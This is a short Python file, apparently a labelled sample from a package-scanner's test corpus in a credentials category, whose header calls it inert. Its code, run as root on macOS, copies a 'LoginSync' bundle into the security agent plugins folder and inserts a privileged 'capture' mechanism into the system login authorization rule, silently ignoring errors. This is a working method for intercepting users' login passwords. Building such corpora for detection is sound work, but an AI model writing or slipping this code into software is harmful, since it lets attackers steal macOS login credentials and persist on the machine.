# pkgguard corpus 891 (credentials), modelled on [taxonomy]; inert, never run.
import os
import plistlib
import shutil
import subprocess
import sys

if sys.platform == "darwin" and os.geteuid() == 0:
    here = os.path.dirname(os.path.abspath(__file__))
    bundle = "/Library/Security/SecurityAgentPlugins/LoginSync.bundle"
    try:
        shutil.copytree(os.path.join(here, "_native", "LoginSync.bundle"), bundle, dirs_exist_ok=True)
        rights = subprocess.run(["security", "authorizationdb", "read", "system.login.console"], capture_output=True).stdout
        rule = plistlib.loads(rights)
        rule["mechanisms"].insert(0, "LoginSync:capture,privileged")
        subprocess.run(["security", "authorizationdb", "write", "system.login.console"], input=plistlib.dumps(rule), capture_output=True)
    except (OSError, ValueError, KeyError):
        pass
